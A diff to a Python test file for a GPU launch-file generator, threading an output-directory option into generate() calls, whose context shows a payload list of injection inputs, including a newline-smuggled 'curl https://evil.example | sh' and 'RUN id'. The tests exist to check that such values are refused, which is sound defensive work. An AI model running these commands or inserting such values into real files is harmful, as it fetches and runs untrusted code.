@@ -27,6 +27,9 @@ from gpuplan.errors import DeployError, GpuplanError
 
 #: Newlines, command substitution, quotes, carriage return, NUL, the line separators YAML 1.1 and
 #: Python's splitlines() honour, a YAML code tag, template syntax, a very long string.
+#: Where the launch files go (SkyPilot's workdir names it).
+LAUNCH = GenerateOptions(out_dir="/srv/launch")
+
 PAYLOADS = [
     "x\nRUN curl https://evil.example | sh",
     "x\r\nRUN id",
@@ -108,7 +111,7 @@ def _skeleton(value: object) -> object:
 @pytest.fixture(scope="module")
 def baselines() -> dict[str, dict[str, object]]:
     spec = LaunchSpec.from_plan(plan_doc())
-    return {t: {f.path: _shape(f) for f in generate(spec, t)} for t in target_names()}
+    return {t: {f.path: _shape(f) for f in generate(spec, t, LAUNCH)} for t in target_names()}
 
 
 def _check(doc: object, baselines: dict[str, dict[str, object]], tally: dict[str, int]) -> None:
@@ -120,7 +123,7 @@ def _check(doc: object, baselines: dict[str, dict[str, object]], tally: dict[str
         return
     for target in target_names():
         try:
-            files = generate(spec, target)
+            files = generate(spec, target, LAUNCH)
         except GpuplanError as e:
             assert "\n" not in str(e), repr(str(e))
             tally["refused"] += 1
@@ -213,7 +216,7 @@ def test_a_name_payload_becomes_a_dns_label_everywhere() -> None:
 def test_a_fixture_workload_still_deploys_everywhere() -> None:
     spec = LaunchSpec.from_workload(FIXTURES / "train.yaml", gpu="A100-80GB", provider="aws")
     for target in target_names():
-        assert generate(spec, target)
+        assert generate(spec, target, LAUNCH)
 
 
 # ---- fuzzing the plan reader: any document is a launch or one DeployError line --------------------
@@ -255,6 +258,6 @@ def test_fuzzed_plan_files_launch_or_fail_in_one_own_line(
         return
     for target in target_names():
         try:
-            generate(spec, target)
+            generate(spec, target, LAUNCH)
         except GpuplanError as e:
             assert "\n" not in str(e), str(e)
